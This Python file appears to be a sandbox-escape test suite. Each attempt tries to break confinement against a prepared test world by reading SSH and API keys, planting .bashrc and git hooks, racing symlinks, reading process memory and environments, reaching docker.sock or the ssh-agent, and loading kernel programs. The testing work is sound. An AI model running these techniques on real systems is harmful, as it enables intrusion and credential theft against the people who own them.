"""What an attacker tries from inside a box. The standard library alone; run as a program.

    python -I -S attempts.py WORLD.json    runs each attempt in a process of its own

An attempt proves that it succeeded by printing the world's token, which it can only have from
outside, or by a trace that the world finds afterwards. What it claims counts for nothing.
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import json
import os
import platform
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable

ATTEMPT_SECONDS = 20
LIBC = ctypes.CDLL(None, use_errno=True)
WORLD: dict[str, str] = {}
ATTEMPTS: dict[str, Callable[[], object]] = {}
NR = {
    "x86_64": {
        "mount": 165, "keyctl": 250, "pidfd_open": 434, "pidfd_getfd": 438, "prlimit64": 302,
        "name_to_handle_at": 303, "open_by_handle_at": 304, "io_uring_setup": 425, "clone3": 435,
        "unshare": 272, "chroot": 161, "bpf": 321, "fsopen": 430, "process_vm_readv": 310,
        "userfaultfd": 323, "perf_event_open": 298, "add_key": 248,
    },
    "aarch64": {
        "mount": 40, "keyctl": 219, "pidfd_open": 434, "pidfd_getfd": 438, "prlimit64": 261,
        "name_to_handle_at": 264, "open_by_handle_at": 265, "io_uring_setup": 425, "clone3": 435,
        "unshare": 97, "chroot": 51, "bpf": 280, "fsopen": 430, "process_vm_readv": 270,
        "userfaultfd": 282, "perf_event_open": 241, "add_key": 217,
    },
}[platform.machine()]  # fmt: skip
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def attempt(function: Callable[[], object]) -> Callable[[], object]:
    ATTEMPTS[function.__name__] = function
    return function


def call(name: str, *arguments: object) -> int:
    """Make a system call; raise as Python does when it is refused."""
    wide = [ctypes.c_long(it) if isinstance(it, int) else it for it in arguments]
    done = int(LIBC.syscall(ctypes.c_long(NR[name]), *wide))
    if done < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), name)
    return done


def read(path: str) -> str:
    with open(path, "rb") as file:
        return file.read(100_000).decode(errors="replace")


def write(path: str, text: str = "escaped") -> None:
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def token() -> bytes:
    """Return what is sent to listeners outside, to be heard there."""
    return b"escaped"


# --- files ---------------------------------------------------------------------------------------


@attempt
def write_a_file_of_the_person() -> None:
    write(WORLD["person"] + "/notes.txt")


@attempt
def make_a_file_beside_the_clone() -> None:
    write(os.path.dirname(WORLD["clone"]) + "/evil")


@attempt
def start_with_the_persons_next_login() -> None:
    write(WORLD["person"] + "/.bashrc")


@attempt
def delete_a_file_of_the_person() -> None:
    os.unlink(WORLD["person"] + "/doomed")


@attempt
def truncate_a_file_of_the_person() -> None:
    os.truncate(WORLD["person"] + "/long", 0)


@attempt
def open_a_file_to_all_by_its_mode() -> None:
    os.chmod(WORLD["person"] + "/mode", 0o777)


@attempt
def open_a_file_to_all_by_a_descriptor() -> None:
    os.fchmod(os.open(WORLD["person"] + "/fmode", os.O_RDONLY), 0o777)


@attempt
def change_a_mode_by_the_long_way_round() -> None:
    os.chdir(WORLD["clone"])
    os.symlink(WORLD["person"], "there")
    os.chmod("there/linkmode", 0o777)


@attempt
def change_a_mode_by_way_of_proc() -> None:
    os.chmod("/proc/self/root" + WORLD["person"] + "/procmode", 0o777)


@attempt
def change_a_mode_in_a_race() -> None:
    """Have somebody look at one file and change another."""
    os.chdir(WORLD["clone"])
    write("mine")
    os.symlink("mine", "racing")
    flipper = os.fork()
    if flipper == 0:
        signal.alarm(ATTEMPT_SECONDS)
        for turn in itertools.cycle((WORLD["person"] + "/racemode", "mine")):
            os.symlink(turn, "next")
            os.rename("next", "racing")
    try:
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                os.chmod("racing", 0o777)
    finally:
        os.kill(flipper, signal.SIGKILL)
        os.waitpid(flipper, 0)


@attempt
def change_a_time_from_an_open_place() -> None:
    place = os.open(WORLD["person"], os.O_PATH)
    os.utime("time2", (1, 1), dir_fd=place)


@attempt
def change_the_time_of_a_file() -> None:
    os.utime(WORLD["person"] + "/time", (1, 1))


@attempt
def write_an_attribute_of_a_file() -> None:
    os.setxattr(WORLD["person"] + "/attribute", "user.escaped", b"1")


@attempt
def give_a_file_to_another_group() -> None:
    groups = [group for group in os.getgroups() if group != os.getegid()]
    os.chown(WORLD["person"] + "/owner", -1, groups[0] if groups else 7)


@attempt
def read_the_ssh_key() -> object:
    return read(WORLD["person"] + "/.ssh/id_ed25519")


@attempt
def read_the_workers_keys() -> object:
    return read(WORLD["data"] + "/keys/OPENAI_API_KEY")


@attempt
def read_the_workers_transcripts() -> object:
    return read(WORLD["data"] + "/transcripts.db")


@attempt
def read_the_clone_of_another_job() -> object:
    return read(WORLD["other"] + "/clone/secret.py")


@attempt
def list_the_person() -> object:
    return os.listdir(WORLD["person"])


@attempt
def read_through_a_symlink() -> object:
    os.symlink(WORLD["person"] + "/.ssh/id_ed25519", WORLD["clone"] + "/innocent.txt")
    return read(WORLD["clone"] + "/innocent.txt")


@attempt
def write_through_a_symlink_of_a_folder() -> None:
    os.symlink(WORLD["person"], WORLD["clone"] + "/vendor")
    write(WORLD["clone"] + "/vendor/by-symlink")


@attempt
def read_through_a_hard_link() -> object:
    os.link(WORLD["person"] + "/.ssh/id_ed25519", WORLD["clone"] + "/linked.txt")
    return read(WORLD["clone"] + "/linked.txt")


@attempt
def bring_a_file_out_by_a_hard_link() -> None:
    write(WORLD["clone"] + "/payload")
    os.link(WORLD["clone"] + "/payload", WORLD["person"] + "/by-link")


@attempt
def bring_a_file_out_by_renaming() -> None:
    write(WORLD["clone"] + "/payload2")
    os.rename(WORLD["clone"] + "/payload2", WORLD["person"] + "/by-rename")


@attempt
def write_into_the_mirror() -> None:
    write(WORLD["mirror"] + "/objects/evil")


@attempt
def plant_a_hook_in_the_mirror() -> None:
    write(WORLD["mirror"] + "/hooks/post-update")


@attempt
def write_into_the_tools_of_every_box() -> None:
    write(WORLD["tool"] + "/bin/python")


@attempt
def write_into_a_fifo_of_the_person() -> None:
    end = os.open(WORLD["person"] + "/fifo", os.O_WRONLY | os.O_NONBLOCK)
    os.write(end, token())


@attempt
def leave_a_program_that_runs_as_its_owner() -> None:
    write(WORLD["clone"] + "/owned")
    os.chmod(WORLD["clone"] + "/owned", 0o4755)


@attempt
def make_a_program_that_runs_as_its_owner() -> None:
    os.close(os.open(WORLD["clone"] + "/born", os.O_CREAT | os.O_WRONLY, 0o4755))


@attempt
def read_by_a_files_handle() -> object:
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", int(WORLD["inode"]), 0)
    with contextlib.suppress(OSError):
        named = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
        mount = ctypes.c_int()
        path = WORLD["person"].encode() + b"/.ssh/id_ed25519"
        call("name_to_handle_at", -100, path, named, ctypes.byref(mount), 0)
        handle = named.raw
    at = os.open(WORLD["clone"], os.O_RDONLY)
    opened = call("open_by_handle_at", at, ctypes.create_string_buffer(handle), os.O_RDONLY)
    return os.read(opened, 1000)


@attempt
def read_what_was_left_open() -> object:
    found = b""
    for number in range(3, 200):
        with contextlib.suppress(OSError):
            found += os.pread(number, 1000, 0)
    return found


@attempt
def read_the_shared_memory_of_the_machine() -> object:
    return read("/dev/shm/" + WORLD["shm"])


# --- other processes -----------------------------------------------------------------------------


@attempt
def read_the_environment_of_a_worker() -> object:
    return read(f"/proc/{WORLD['victim']}/environ")


@attempt
def read_every_environment_there_is() -> object:
    # Of all of them only what may be a secret: where many programs run, all are too much to say.
    found = ""
    for name in os.listdir("/proc"):
        if name.isdigit():
            with contextlib.suppress(OSError):
                words = read(f"/proc/{name}/environ").split("\0")
                found += "".join(f"{word}\n" for word in words if word.startswith("TOKEN="))
    return found


@attempt
def read_memory_by_proc() -> object:
    with open(f"/proc/{WORLD['victim']}/mem", "rb") as memory:
        memory.seek(int(WORLD["address"]))
        return memory.read(64)


@attempt
def read_memory_by_process_vm_readv() -> object:
    mine = ctypes.create_string_buffer(64)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(mine), 64)
    remote = (ctypes.c_size_t * 2)(int(WORLD["address"]), 64)
    call("process_vm_readv", int(WORLD["victim"]), local, 1, remote, 1, 0)
    return mine.raw


@attempt
def trace_a_process() -> object:
    victim = int(WORLD["victim"])
    LIBC.ptrace.restype = ctypes.c_long
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    if LIBC.ptrace(16, victim, None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(victim, 0)
    words = [LIBC.ptrace(1, victim, int(WORLD["address"]) + 8 * n, None) for n in range(8)]
    LIBC.ptrace(17, victim, None, None)
    return struct.pack("=8q", *words)


@attempt
def take_a_descriptor_of_a_process() -> object:
    process = call("pidfd_open", int(WORLD["victim"]), 0)
    return os.pread(call("pidfd_getfd", process, int(WORLD["victim_fd"]), 0), 100, 0)


@attempt
def open_a_descriptor_of_a_process() -> object:
    return read(f"/proc/{WORLD['victim']}/fd/{WORLD['victim_fd']}")


@attempt
def go_round_by_the_root_of_a_process() -> object:
    for name in (WORLD["victim"], "1", str(os.getppid())):
        with contextlib.suppress(OSError):
            return read(f"/proc/{name}/root{WORLD['person']}/.ssh/id_ed25519")
    return ""


@attempt
def kill_a_process() -> None:
    os.kill(int(WORLD["doomed"]), signal.SIGKILL)


@attempt
def kill_everything() -> None:
    # As the last of its group of one; -1 would also end the test where nothing holds it back.
    os.killpg(int(WORLD["doomed_group"]), signal.SIGKILL)


@attempt
def starve_a_process_of_its_limits() -> None:
    call("prlimit64", int(WORLD["limited"]), 7, (ctypes.c_ulong * 2)(5, 5), None)


@attempt
def slow_a_process_down() -> None:
    os.setpriority(os.PRIO_PROCESS, int(WORLD["limited"]), 19)


@attempt
def keep_a_process_to_one_core() -> None:
    os.sched_setaffinity(int(WORLD["limited"]), {0})


@attempt
def read_memory_that_processes_share() -> object:
    LIBC.shmat.restype = ctypes.c_void_p
    at = LIBC.shmat(int(WORLD["segment"]), None, 0o10000)
    if at in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(at, 32)


# --- network -------------------------------------------------------------------------------------


def told(family: int, kind: int, address: str | tuple[str, int], protocol: int = 0) -> None:
    with socket.socket(family, kind, protocol) as line:
        line.settimeout(10)
        line.connect(address)
        line.send(token())


@attempt
def connect_to_a_server() -> None:
    told(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(WORLD["tcp"])))


@attempt
def connect_by_ipv6() -> None:
    told(socket.AF_INET6, socket.SOCK_STREAM, ("::1", int(WORLD["tcp6"])))


@attempt
def connect_to_the_gateways_port_elsewhere() -> None:
    told(socket.AF_INET, socket.SOCK_STREAM, (WORLD["elsewhere"], int(WORLD["port"])))


@attempt
def connect_without_waiting() -> None:
    line = socket.socket()
    line.setblocking(False)
    line.connect_ex(("127.0.0.1", int(WORLD["tcp_async"])))
    time.sleep(0.2)
    line.send(token())


@attempt
def connect_by_multipath_tcp() -> None:
    told(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(WORLD["mptcp"])), 262)


@attempt
def connect_by_sending_first() -> None:
    with socket.socket() as line:
        with contextlib.suppress(BlockingIOError):  # without a cookie of an earlier visit
            line.settimeout(1)
            line.sendto(token(), 0x20000000, ("127.0.0.1", int(WORLD["fastopen"])))
        time.sleep(0.1)
        line.send(token())


@attempt
def send_a_datagram() -> None:
    told(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int(WORLD["udp"])))


@attempt
def ask_the_name_server() -> None:
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\x07escaped\x04test\x00\x00\x10\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendmsg([query], [], 0, ("127.0.0.1", int(WORLD["udp_dns"])))


@attempt
def ping_by_a_raw_socket() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as line:
        line.settimeout(1)
        line.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FF - 1, 1, 1), ("127.0.0.1", 0))
        line.recv(100)
        return WORLD["token"]


@attempt
def make_a_packet_socket() -> object:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as line:
        line.bind(("lo", 0))
        return WORLD["token"]


@attempt
def reach_the_machine_below() -> object:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as line:
        line.settimeout(0.2)
        with contextlib.suppress(OSError):
            line.connect((2, 9))
        return WORLD["token"]


@attempt
def be_called_from_outside() -> object:
    with socket.socket() as line:
        line.settimeout(2)
        line.listen()
        write(WORLD["clone"] + "/call-me", str(line.getsockname()[1]))
        caller, _ = line.accept()
        return caller.recv(100)


@attempt
def connect_to_an_abstract_socket() -> None:
    told(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + WORLD["abstract"])


@attempt
def connect_to_the_container_engine() -> None:
    told(socket.AF_UNIX, socket.SOCK_STREAM, WORLD["sockets"] + "/docker.sock")


@attempt
def connect_to_the_ssh_agent() -> None:
    told(socket.AF_UNIX, socket.SOCK_STREAM, WORLD["agent_socket"])


@attempt
def send_to_the_journal() -> None:
    told(socket.AF_UNIX, socket.SOCK_DGRAM, WORLD["sockets"] + "/journal")


@attempt
def send_to_the_journal_without_connecting() -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as line:
        line.sendto(token(), WORLD["sockets"] + "/journal2")


@attempt
def connect_to_the_gateway_of_another_job() -> None:
    told(socket.AF_UNIX, socket.SOCK_STREAM, WORLD["other"] + "/gateway.sock")


# --- the system ----------------------------------------------------------------------------------


@attempt
def make_a_user_namespace() -> object:
    call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    return WORLD["token"]


@attempt
def make_a_user_namespace_by_clone3() -> object:
    # struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal, stack, size, tls
    asked = (ctypes.c_uint64 * 8)(CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    if call("clone3", asked, 64) == 0:
        os._exit(0)
    return WORLD["token"]


@attempt
def mount_what_is_hidden() -> object:
    os.makedirs(WORLD["clone"] + "/m")
    call("mount", b"none", WORLD["clone"].encode() + b"/m", b"tmpfs", 0, None)
    LIBC.umount2(WORLD["clone"].encode() + b"/m", 2)
    return WORLD["token"]


@attempt
def mount_by_the_new_calls() -> object:
    call("fsopen", b"tmpfs", 0)
    return WORLD["token"]


@attempt
def change_the_root() -> object:
    call("chroot", WORLD["clone"].encode())
    return WORLD["token"]


@attempt
def become_another_by_a_program_of_the_system() -> object:
    done = subprocess.run([WORLD["suid"], "-u"], capture_output=True, text=True, check=False)
    return WORLD["token"] if done.stdout.strip() == WORLD["suid_id"] else done.stderr


@attempt
def make_a_device() -> object:
    os.mknod(WORLD["clone"] + "/disk", stat.S_IFCHR | 0o600, os.makedev(1, 5))
    os.close(os.open(WORLD["clone"] + "/disk", os.O_RDONLY))
    return WORLD["token"]


@attempt
def open_a_device() -> object:
    for name in ("kmsg", "mem", "vda", "sda", "nvme0n1", "kvm", "fuse", "loop0", "net/tun", "tty1"):
        with contextlib.suppress(OSError):
            os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
            return WORLD["token"]
    return ""


@attempt
def have_the_kernel_start_a_program() -> object:
    # That it opens is proof enough: the setting is the whole machine's, and is left as it is.
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return WORLD["token"]


@attempt
def pull_the_systems_levers() -> object:
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return WORLD["token"]


@attempt
def write_into_sys() -> object:
    for name in ("/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state",
                 "/sys/devices/system/cpu/cpu1/online"):  # fmt: skip
        with contextlib.suppress(OSError):
            os.close(os.open(name, os.O_WRONLY))
            return WORLD["token"]
    return ""


@attempt
def look_into_the_kernels_memory() -> object:
    os.close(os.open("/proc/kcore", os.O_RDONLY))
    return WORLD["token"]


@attempt
def use_the_persons_keyring() -> object:
    call("keyctl", 0, -3, 1)  # KEYCTL_GET_KEYRING_ID of the session's
    return WORLD["token"]


@attempt
def get_a_ring_that_no_filter_sees() -> object:
    os.close(call("io_uring_setup", 4, ctypes.create_string_buffer(248)))
    return WORLD["token"]


@attempt
def load_a_program_into_the_kernel() -> object:
    # The smallest socket filter: r0 = 0; exit
    code = ctypes.create_string_buffer(bytes.fromhex("b700000000000000" + "9500000000000000"))
    name = ctypes.create_string_buffer(b"GPL")
    asked = struct.pack("=IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(name))
    os.close(call("bpf", 5, ctypes.create_string_buffer(asked + bytes(96)), 120))
    return WORLD["token"]


def main() -> None:
    WORLD.update(json.loads(read(sys.argv[1])))
    only = sys.argv[2:] or list(ATTEMPTS)
    for name in only:
        print(json.dumps({"name": name, "said": apart(ATTEMPTS[name])}), flush=True)


def apart(function: Callable[[], object]) -> str:
    """Run an attempt in a process of its own; return the last of what it says."""
    ours, theirs = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(ours)
        signal.alarm(ATTEMPT_SECONDS)
        try:
            said = function()
            words = said.decode(errors="replace") if isinstance(said, bytes) else str(said)
        except BaseException as error:
            words = f"{type(error).__name__}: {error}"
        os.write(theirs, words.encode(errors="replace")[-60_000:])
        os._exit(0)
    os.close(theirs)
    with os.fdopen(ours, "rb") as pipe:
        heard = pipe.read()
    os.waitpid(child, 0)
    return heard.decode(errors="replace")


if __name__ == "__main__":
    main()
